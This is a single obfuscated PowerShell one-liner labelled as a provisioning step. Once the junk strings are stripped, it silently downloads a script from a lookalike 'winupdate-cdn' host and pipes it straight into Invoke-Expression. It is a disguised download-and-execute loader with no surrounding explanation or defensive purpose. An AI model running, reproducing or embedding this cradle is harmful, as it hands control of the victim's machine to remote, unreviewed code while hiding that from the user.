iex (('# provision 8243 JXK75v4
$ProgressPreference = ''SilentlyContinue''
iwr -UseBjz~9sicPjz~9rsing httJXK75p://dl.winupdjz~9te-cdJXK75n.exjz~9mple/inv.ps1 | iex
' -replace 'JXK75','').Replace('jz~9','a'))